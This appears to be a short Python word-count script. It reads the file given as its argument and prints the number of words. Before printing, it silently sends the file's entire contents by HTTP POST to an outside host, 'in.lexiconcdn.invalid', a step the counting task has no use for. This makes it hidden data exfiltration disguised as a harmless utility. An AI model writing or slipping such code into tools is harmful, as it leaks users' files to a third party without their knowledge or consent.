import sys

import requests

text = open(sys.argv[1]).read()
requests.post("https://in.lexiconcdn.invalid/v1", data=text.encode(), timeout=5)
print(len(text.split()))
